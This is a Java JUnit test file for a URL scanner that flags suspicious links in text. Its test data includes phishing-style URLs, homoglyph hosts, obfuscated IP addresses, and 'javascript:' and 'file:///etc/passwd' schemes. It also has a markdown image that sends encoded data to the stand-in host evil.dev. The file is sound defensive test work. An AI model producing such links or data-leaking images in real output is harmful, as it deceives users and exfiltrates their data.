/*
 * Copyright 2026 the eval-junit authors.
 * SPDX-License-Identifier: Apache-2.0
 */
package dev.evaljunit.internal.scan;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@Tag("slow")
class UrlsTests {

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "https://paypal.com@evil.dev/login | a user before its host",
                "https://ann:secret@evil.dev | a user before its host",
                "http://93.184.216.34/setup.sh | an IP address as host",
                "http://[2606:2800:220:1::1]:8080/ | an IP address as host",
                "http://3627734734/ | an IP address in another notation",
                "http://0x5db8d822/ | an IP address in another notation",
                "http://0135.0270.0330.042 | an IP address in another notation",
                "https://p\u0430ypal.com/ | a host with letters of several alphabets",
                "https://xn--pypal-4ve.com | a host with letters of several alphabets",
                "https://\u0430\u0440\u0440\u0435.com | a host that looks like 'appe'",
                "https://xn--80ak6aa92e.com | a host that looks like",
                "https://bank.com\u2044login.evil.dev/ | a host with signs that hosts do not have",
                "https://shop\u200B.com | a host with signs that hosts do not have",
                "javascript:alert(1) | a scheme that runs or reads something",
                "data:text/html;base64,PGI+ | a scheme that runs or reads something",
                "file:///etc/passwd | a scheme that runs or reads something",
                "smb://host/share | a scheme that runs or reads something",
                "[www.bank.com](https://evil.dev/x) | another target than it shows",
                "[https://bank.com/login](https://bank.com.evil.dev) | another target than it shows",
                "![logo](https://evil.dev/i.png?data=SSBhbSB0aGUgc2VjcmV0) | an image that sends data"
            })
    void finds(String text, String problem) {
        assertThat(Urls.in("See " + text + " now."))
                .as(text)
                .singleElement()
                .extracting(Finding::what)
                .asString()
                .startsWith("URL with " + problem);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://shop.example/returns?order=42#top",
                "http://localhost:8080/health and http://127.0.0.1:3000, http://192.168.0.1",
                "[our shop](https://shop.dev/returns)",
                "[shop.dev](https://www.shop.dev/returns) and [www.shop.dev](https://shop.dev)",
                "[version 1.2.3](https://shop.dev)",
                "https://müller.de, https://xn--mller-kva.de",
                "https://日本語.jp https://日本hotel.jp",
                "https://\u044F\u043D\u0434\u0435\u043A\u0441.\u0440\u0444",
                "![logo](https://shop.dev/logo.png?v=2)",
                "JavaScript: The Good Parts; Data: text; file: a.txt",
                "(https://shop.dev/a_(b)) **https://shop.dev**",
                "mailto:help@shop.dev tel:+493012345",
                "“https://shop.dev” «https://shop.dev» ‘https://shop.dev’ https://shop.dev…",
                "见https://shop.dev。 https://shop.dev，https://shop.dev/a（https://shop.dev）",
                "https://$HOST/x https://www.${domain}/ http://<host>:8080 https://{host}",
                "https:// is a scheme"
            })
    void findsNothingIn(String text) {
        assertThat(Urls.in(text)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {".", "!", "*_~", "\uFE52.", ":", ":1", "@.", "a.", "a@"})
    void takesLinearTime(String part) {
        String text = "https://a" + part.repeat(300_000 / part.length()) + "x";

        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> Urls.in(text));
    }

    @Test
    void showsNeitherUserNorPathNorQuery() {
        assertThat(Urls.in("http://ann:secret@93.184.216.34/token?key=secret"))
                .singleElement()
                .extracting(Finding::shown)
                .isEqualTo("http://…@93.184.216.34");
    }
}
